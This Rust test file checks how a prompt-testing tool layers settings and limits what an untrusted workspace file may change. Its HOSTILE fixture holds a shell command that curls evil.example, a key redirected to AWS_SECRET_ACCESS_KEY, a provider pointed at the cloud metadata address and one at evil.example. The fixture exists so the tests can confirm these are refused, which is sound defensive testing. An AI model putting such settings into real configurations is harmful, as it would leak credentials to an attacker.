//! Which layer decides what, and what a workspace may say.

use std::{fs, path::Path, time::Duration};

use promptlathe::{
    config::{
        Authentication, BudgetSettings, CacheSettings, EngineSettings, Glyphs, KeySource,
        NoticeKind, ProviderKind, RedactWhen, SettingsFlags, UnknownPrice, WorkspaceToml,
        trust_workspace,
    },
    model::{CacheMode, ContentHash, Fallback, ModelRef, Price},
};

use super::Home;

const FULL: &str = r#"
default_model = "local/qwen"

[providers.local]
kind = "openai"
base_url = "http://127.0.0.1:8080/v1"
api_key_env = "LOCAL_KEY"
headers = { "X-Team" = "prompts" }
allow_plain_http = true
ca_file = "certificates/ca.pem"
quirks = "llama.cpp"
api_version = "2024-10-21"
concurrency = 3
requests_per_minute = 30
tokens_per_minute = 6_000

[providers.work]
kind = "anthropic"
base_url = "https://gateway.example/anthropic"
api_key_command = ["pass", "show", "work"]
api_key_header = "Authorization"

[providers.openai]
headers = { "OpenAI-Organization" = "org-file" }

[engine]
connect_timeout = "5s"
idle_timeout = "500ms"
total_timeout = "2m"
retries = 0
suite_retries = 1_0
concurrency = 0x10
requests_per_minute = 100
tokens_per_minute = 90_000
breaker_failures = 3
breaker_rest = "2m"
fallback = ["openai/gpt-x", { model = "demo/fast", timeout = "20s" }]
max_response = "1MiB"
max_answer = "512KiB"
max_event = "64KiB"

[cache]
mode = "similar"
any_temperature = true
ttl = "2d"
max_size = "8MiB"
similarity = 0.9

[budget]
per_run = 1
hour = 2.5
day = 10
month = 100
confirm_above = 0.05
unknown_price = "block"

[interface]
theme = "mono"
fps = 10
mouse = true
glyphs = "unicode"
key_set = "vi"
tab_width = 8

[keys]
run = ["r", "ctrl-r"]
quit = "q"
zoom = []

[models."openai/gpt-x"]
price_input = 1
price_output = 2.5
price_cached_input = 0.1
context_window = 128_000
"#;

#[test]
fn every_key_arrives() {
    let home = Home::with_config(FULL);
    let (settings, notices) = home.load(&[]).expect("valid");
    assert_eq!(settings.default_model, Some(ModelRef::new("local", "qwen")));
    let local = &settings.providers["local"];
    assert_eq!(local.kind, ProviderKind::OpenAi);
    assert_eq!(local.base_url.as_str(), "http://127.0.0.1:8080/v1");
    assert_eq!(local.key, KeySource::Env("LOCAL_KEY".to_owned()));
    assert_eq!(local.headers["x-team"], "prompts");
    assert!(local.allow_plain_http && local.is_local());
    assert_eq!(local.quirks, Some(promptlathe::config::Server::LlamaCpp));
    assert_eq!(local.api_version.as_deref(), Some("2024-10-21"));
    let beside = home.paths.config_file.parent().expect("parent");
    assert_eq!(local.ca_file, Some(beside.join("certificates/ca.pem")));
    let limits = settings.engine.limits_of(Some(local));
    assert_eq!(
        (limits.concurrency, limits.requests_per_minute, limits.tokens_per_minute),
        (3, Some(30), Some(6_000))
    );
    let work = &settings.providers["work"];
    let limits = settings.engine.limits_of(Some(work));
    assert_eq!((limits.concurrency, limits.requests_per_minute), (16, Some(100)));
    assert_eq!(work.key, KeySource::Command(["pass", "show", "work"].map(str::to_owned).to_vec()));
    assert_eq!(work.authentication, Authentication::Bearer);
    assert!(!work.is_local());
    assert_eq!(
        settings.engine,
        EngineSettings {
            connect_timeout: Duration::from_secs(5),
            idle_timeout: Duration::from_millis(500),
            total_timeout: Duration::from_mins(2),
            retries: 0,
            suite_retries: 10,
            concurrency: 16,
            requests_per_minute: 100,
            tokens_per_minute: 90_000,
            breaker_failures: 3,
            breaker_rest: Duration::from_mins(2),
            fallback: vec![
                ModelRef::new("openai", "gpt-x").into(),
                Fallback {
                    model: ModelRef::new("demo", "fast"),
                    timeout: Some(Duration::from_secs(20)),
                },
            ],
            max_response: 1 << 20,
            max_answer: 512 << 10,
            max_event: 64 << 10,
        }
    );
    assert_eq!(
        settings.cache,
        CacheSettings {
            mode: CacheMode::Similar,
            any_temperature: true,
            ttl: Duration::from_hours(48),
            max_size: 8 << 20,
            similarity: 0.9,
        }
    );
    assert_eq!(
        settings.budget,
        BudgetSettings {
            per_run: Some(1.0),
            hour: Some(2.5),
            day: Some(10.0),
            month: Some(100.0),
            confirm_above: Some(0.05),
            unknown_price: UnknownPrice::Block,
        }
    );
    assert_eq!(settings.theme.as_deref(), Some("mono"));
    let interface = &settings.interface;
    assert_eq!(
        (interface.fps, interface.mouse, interface.glyphs),
        (Some(10), true, Glyphs::Unicode)
    );
    assert_eq!((interface.key_set, interface.tab_width), (promptlathe::config::KeySet::Vi, 8));
    assert_eq!(settings.keys["run"], ["r", "ctrl-r"]);
    assert_eq!(settings.keys["quit"], ["q"]);
    assert!(settings.keys["zoom"].is_empty());
    let facts = &settings.models[&ModelRef::new("openai", "gpt-x")];
    assert_eq!(facts.context_window, Some(128_000));
    let price = Price {
        input: 1.0,
        output: 2.5,
        cached_input: Some(0.1),
        cache_write: None,
        cache_write_hour: None,
    };
    assert_eq!(facts.price(None), Some(price));
    assert_eq!(notices, []);
    let names = settings.secret_variables();
    assert!(names.contains("LOCAL_KEY") && names.contains("OPENAI_API_KEY"));
}

#[test]
fn without_any_file_the_built_in_providers_are_there() {
    let (settings, notices) = Home::new().load(&[]).expect("valid");
    let names: Vec<&str> = settings.providers.keys().map(String::as_str).collect();
    assert_eq!(names, ["anthropic", "demo", "gemini", "ollama", "openai"]);
    assert_eq!(settings.engine, EngineSettings::default());
    assert_eq!(settings.providers["openai"].key, KeySource::Env("OPENAI_API_KEY".to_owned()));
    assert_eq!(settings.providers["ollama"].key, KeySource::None);
    assert_eq!(
        settings.providers["anthropic"].authentication,
        Authentication::Header("x-api-key".to_owned())
    );
    assert_eq!(notices, []);
}

#[test]
fn a_settings_file_that_was_named_must_be_there() {
    let mut home = Home::new();
    home.paths.config_file_named = true;
    let error = home.load(&[]).expect_err("missing").to_string();
    assert!(error.contains("config.toml") && error.contains("--config"), "{error}");
}

#[test]
fn variables_win_over_files_and_flags_over_variables() {
    let home = Home::with_config(
        "default_model = \"openai/file\"\n[interface]\ntheme = \"file\"\n\
         [providers.openai]\nbase_url = \"http://file/v1\"\n",
    );
    let pairs = [
        ("LATHE_MODEL", "openai/variable"),
        ("OPENAI_BASE_URL", "http://variable/v1"),
        ("LATHE_THEME", "variable"),
        ("LATHE_ASCII", "1"),
    ];
    let (settings, _) = home.load(&pairs).expect("valid");
    assert_eq!(settings.default_model, Some(ModelRef::new("openai", "variable")));
    assert_eq!(settings.providers["openai"].base_url.as_str(), "http://variable/v1");
    assert_eq!(settings.theme.as_deref(), Some("variable"));
    assert_eq!(settings.interface.glyphs, Glyphs::Ascii);
    let flags = SettingsFlags {
        default_model: Some(ModelRef::new("demo", "fast")),
        theme: Some("flag".to_owned()),
    };
    let settings = settings.with_flags(&flags);
    assert_eq!(settings.default_model, Some(ModelRef::new("demo", "fast")));
    assert_eq!(settings.theme.as_deref(), Some("flag"));
}

#[test]
fn a_bad_variable_is_named() {
    for (name, value) in
        [("LATHE_MODEL", "fast"), ("OPENAI_BASE_URL", "nowhere"), ("OLLAMA_HOST", "box:port")]
    {
        let error = Home::new().load(&[(name, value)]).expect_err(name).to_string();
        assert!(error.starts_with(&format!("{name}: ")), "{error}");
    }
}

#[test]
fn another_address_does_not_get_the_usual_key() {
    let home = Home::with_config(
        "[providers.near]\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:1/v1\"\n\
         [providers.second]\nkind = \"openai\"\n\
         [providers.own]\nkind = \"openai\"\napi_key_env = \"OWN\"\n\
         [providers.ollama]\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:11434/v1\"\n",
    );
    let (settings, _) = home.load(&[]).expect("valid");
    assert_eq!(settings.providers["near"].key, KeySource::None);
    assert_eq!(settings.providers["second"].key, KeySource::Env("OPENAI_API_KEY".to_owned()));
    assert_eq!(settings.providers["second"].base_url.as_str(), "https://api.openai.com/v1");
    assert_eq!(settings.providers["own"].key, KeySource::Env("OWN".to_owned()));
    assert_eq!(settings.providers["ollama"].kind, ProviderKind::OpenAi);
}

#[test]
fn a_key_named_in_a_file_is_not_replaced_by_a_variable() {
    let home = Home::with_config("[providers.anthropic]\napi_key_env = \"MINE\"\n");
    let (settings, _) = home.load(&[("ANTHROPIC_AUTH_TOKEN", "t")]).expect("valid");
    assert_eq!(settings.providers["anthropic"].key, KeySource::Env("MINE".to_owned()));
}

#[test]
fn a_header_named_in_a_file_holds_for_a_key_of_a_variable_too() {
    let home = Home::with_config("[providers.anthropic]\napi_key_header = \"x-gateway-key\"\n");
    let (settings, _) = home.load(&[("ANTHROPIC_AUTH_TOKEN", "t")]).expect("valid");
    let anthropic = &settings.providers["anthropic"];
    assert_eq!(anthropic.key, KeySource::Env("ANTHROPIC_AUTH_TOKEN".to_owned()));
    assert_ne!(anthropic.authentication, Authentication::Bearer);
}

#[test]
fn a_key_that_another_takes_the_place_of_stays_secret() {
    let home = Home::with_config("[providers.gemini]\napi_key_env = \"MINE\"\n");
    let (settings, _) = home.load(&[("GOOGLE_API_KEY", "k")]).expect("valid");
    assert!(settings.secret_variables().contains("GOOGLE_API_KEY"));
}

#[test]
fn an_amount_may_be_written_as_any_number() {
    for (written, amount) in [("0x10", 16.0), ("0b11", 3.0), ("0o17", 15.0), ("1_000", 1000.0)] {
        let home = Home::with_config(&format!("[budget]\nday = {written}\n"));
        let (settings, _) = home.load(&[]).expect("valid");
        assert_eq!(settings.budget.day, Some(amount), "{written}");
    }
}

fn workspace(text: &str) -> WorkspaceToml {
    WorkspaceToml { path: "/ws/lathe.toml".into(), text: text.to_owned(), built_in: false }
}

const HOSTILE: &str = r#"
default_model = "openai/gpt-x"

[providers.openai]
base_url = "http://169.254.169.254/v1"
headers = { "X-Steal" = "1" }
api_key_env = "AWS_SECRET_ACCESS_KEY"
api_key_command = ["sh", "-c", "curl evil.example"]

[providers.extra]
kind = "openai"
base_url = "https://evil.example/v1"
api_key_env = "OPENAI_API_KEY"

[engine]
retries = 1
concurrency = 500
breaker_failures = 0
requests_per_minute = 0
tokens_per_minute = 10
max_response = "16GiB"
fallback = ["openai/gpt-x", "extra/listener"]

[models."openai/gpt-x"]
price_input = 0
price_output = 0
"#;

#[test]
fn a_workspace_cannot_move_keys_or_raise_limits_until_it_is_trusted() {
    let home = Home::new();
    let (before, _) = home.load(&[]).expect("valid");
    let file = workspace(HOSTILE);
    let (settings, notices) = home.load_with(Some(&file), &[]).expect("valid");
    assert_eq!(settings.providers, before.providers);
    assert_eq!(settings.default_model, Some(ModelRef::new("openai", "gpt-x")));
    assert_eq!(
        settings.engine,
        EngineSettings { retries: 1, tokens_per_minute: 10, ..EngineSettings::default() }
    );
    assert!(settings.models.is_empty());
    let [untrusted, refused] = notices.as_slice() else { panic!("{notices:?}") };
    let hash = ContentHash::of(HOSTILE.as_bytes());
    let keys = match &untrusted.kind {
        NoticeKind::WorkspaceNotTrusted { hash: found, keys, .. } if *found == hash => {
            keys.join(" ")
        }
        other => panic!("{other:?}"),
    };
    assert_eq!(
        keys,
        "providers.extra.api_key_env providers.extra.base_url providers.extra.kind \
         providers.openai.api_key_env providers.openai.base_url providers.openai.headers \
         engine.concurrency engine.max_response engine.requests_per_minute engine.breaker_failures \
         engine.fallback models.\"openai/gpt-x\""
    );
    assert!(
        matches!(&refused.kind, NoticeKind::WorkspaceMayNot { keys, .. } if keys == &["providers.openai.api_key_command"])
    );
    assert!(refused.message.contains("config.toml"), "{refused}");
}

#[test]
fn a_workspace_may_make_budgets_smaller_and_says_nothing_of_the_cache() {
    let home = Home::with_config("[budget]\nday = 5\nmonth = 50\nunknown_price = \"block\"\n");
    let file = workspace(
        "[budget]\nday = 6\nmonth = 20\nhour = 1\nunknown_price = \"allow\"\n\
         [cache]\nmode = \"similar\"\n",
    );
    let (settings, notices) = home.load_with(Some(&file), &[]).expect("valid");
    let budget = &settings.budget;
    assert_eq!((budget.day, budget.month, budget.hour), (Some(5.0), Some(20.0), Some(1.0)));
    assert_eq!(budget.unknown_price, UnknownPrice::Block);
    assert_eq!(settings.cache, CacheSettings::default());
    let NoticeKind::WorkspaceNotTrusted { keys, .. } = &notices[0].kind else {
        panic!("{notices:?}")
    };
    assert_eq!(keys.join(" "), "cache.mode budget.day budget.unknown_price");
}

#[test]
fn trust_is_for_this_content_and_never_for_commands() {
    let home = Home::new();
    let file = workspace(HOSTILE);
    let hash = ContentHash::of(HOSTILE.as_bytes());
    trust_workspace(&home.paths, &hash).expect("remembered");
    trust_workspace(&home.paths, &hash).expect("remembered once");
    let list = fs::read_to_string(home.paths.trust_file()).expect("the list");
    assert_eq!(list, format!("{hash}\n"));

    let (settings, notices) = home.load_with(Some(&file), &[]).expect("valid");
    let openai = &settings.providers["openai"];
    assert_eq!(openai.base_url.as_str(), "http://169.254.169.254/v1");
    assert!(settings.providers.contains_key("extra"));
    assert_eq!(settings.engine.concurrency, 500);
    assert_eq!(settings.engine.fallback.len(), 2);
    assert_eq!(settings.models.len(), 1);
    assert_eq!(notices.len(), 1, "{notices:?}");
    assert!(matches!(notices[0].kind, NoticeKind::WorkspaceMayNot { .. }));

    let changed = workspace(&HOSTILE.replace("retries = 1", "retries = 2"));
    let (settings, notices) = home.load_with(Some(&changed), &[]).expect("valid");
    assert_eq!(settings.providers["openai"].base_url.as_str(), "https://api.openai.com/v1");
    assert!(matches!(notices[0].kind, NoticeKind::WorkspaceNotTrusted { .. }));
}

#[test]
fn a_workspace_key_source_does_not_survive_beside_its_command() {
    let text = "[providers.openai]\napi_key_command = [\"sh\"]\n";
    let home = Home::new();
    trust_workspace(&home.paths, &ContentHash::of(text.as_bytes())).expect("remembered");
    let (settings, _) = home.load_with(Some(&workspace(text)), &[]).expect("valid");
    assert_eq!(settings.providers["openai"].key, KeySource::Env("OPENAI_API_KEY".to_owned()));
}

#[test]
fn trust_may_be_named_by_enough_digits_of_the_hash() {
    let home = Home::new();
    let file = workspace(HOSTILE);
    let hash = ContentHash::of(HOSTILE.as_bytes());
    let is_trusted = |named: &str| {
        let (settings, _) = home.load_with(Some(&file), &[("LATHE_TRUST", named)]).expect("valid");
        settings.providers.contains_key("extra")
    };
    assert!(is_trusted(hash.as_str()));
    assert!(is_trusted(&hash.as_str()[..16]));
    assert!(is_trusted(&format!("0000000000000000, {}", hash.as_str()[..20].to_uppercase())));
    assert!(!is_trusted(&hash.as_str()[..15]));
    assert!(!is_trusted(&hash.as_str()[1..]));
    assert!(!is_trusted(""));
    assert!(!is_trusted("1"));
}

#[test]
fn the_built_in_sample_is_trusted_as_the_program_is() {
    let file = WorkspaceToml { built_in: true, ..workspace(HOSTILE) };
    let (settings, _) = Home::new().load_with(Some(&file), &[]).expect("valid");
    assert!(settings.providers.contains_key("extra"));
}

#[test]
fn a_workspace_has_no_say_in_keys_and_looks() {
    let file = workspace("[keys]\nquit = []\n[interface]\nmouse = true\n");
    let error = Home::new().load_with(Some(&file), &[]).expect_err("refused").to_string();
    assert!(error.contains("lathe.toml:2:1") || error.contains("lathe.toml:1:"), "{error}");
    assert!(error.contains("your config.toml"), "{error}");
}

#[test]
fn a_bad_workspace_file_is_named_with_its_place() {
    let file = workspace("\n\n  modle = 1\n");
    let error = Home::new().load_with(Some(&file), &[]).expect_err("refused").to_string();
    assert_eq!(error, "/ws/lathe.toml:3:3: unknown key `modle`; did you mean `models`?");
    assert!(Path::new("/ws/lathe.toml").is_absolute());
}

#[test]
fn a_workspace_may_have_more_taken_out_and_never_less_until_it_is_trusted() {
    let stricter = "[redaction]\npersonal = \"before_export\"\n";
    let file = workspace(stricter);
    let home = Home::with_config("[redaction]\nwarn = \"note\"\nsecrets = \"before_export\"\n");
    let (settings, notices) = home.load_with(Some(&file), &[]).expect("valid");
    assert_eq!(settings.redaction.personal, RedactWhen::BeforeExport);
    assert_eq!(notices, []);

    let looser = "[redaction]\nsecrets = \"never\"\nwarn = \"never\"\noff = [\"jwt\"]\n\
                  patterns = { x = \"[a-z]\" }\n";
    let file = workspace(looser);
    let (settings, notices) = home.load_with(Some(&file), &[]).expect("valid");
    let (own, _) = home.load(&[]).expect("valid");
    assert_eq!(settings.redaction, own.redaction);
    let NoticeKind::WorkspaceNotTrusted { keys, .. } = &notices[0].kind else {
        panic!("{notices:?}")
    };
    assert_eq!(keys.join(" "), "redaction.secrets redaction.warn redaction.off redaction.patterns");

    trust_workspace(&home.paths, &ContentHash::of(looser.as_bytes())).expect("remembered");
    let (settings, notices) = home.load_with(Some(&file), &[]).expect("valid");
    assert_eq!((settings.redaction.secrets, notices.len()), (RedactWhen::Never, 0));
    assert!(
        settings.redaction.off.contains("jwt") && settings.redaction.patterns.contains_key("x")
    );
}

#[test]
fn a_new_provider_of_any_kind_needs_nothing_but_its_kind() {
    for kind in ProviderKind::ALL {
        let home = Home::with_config(&format!("[providers.mine]\nkind = \"{}\"\n", kind.as_str()));
        let (settings, notices) = home.load(&[]).expect("valid");
        let mine = settings.providers.get("mine");
        assert_eq!(mine.map(|it| it.kind), Some(kind), "{notices:?}");
    }
}

#[test]
fn a_provider_is_set_up_by_a_file_or_a_variable_even_with_what_it_has_anyway() {
    let usual = "[providers.ollama]\nbase_url = \"http://127.0.0.1:11434\"\n";
    for (config, variables, wanted) in [
        ("", &[][..], false),
        (usual, &[], true),
        ("", &[("OLLAMA_HOST", "127.0.0.1:11434")], true),
        ("", &[("OLLAMA_API_KEY", "planted")], true),
    ] {
        let (settings, _) = Home::with_config(config).load(variables).expect("valid");
        assert_eq!(settings.providers["ollama"].configured, wanted, "{config}{variables:?}");
    }
}
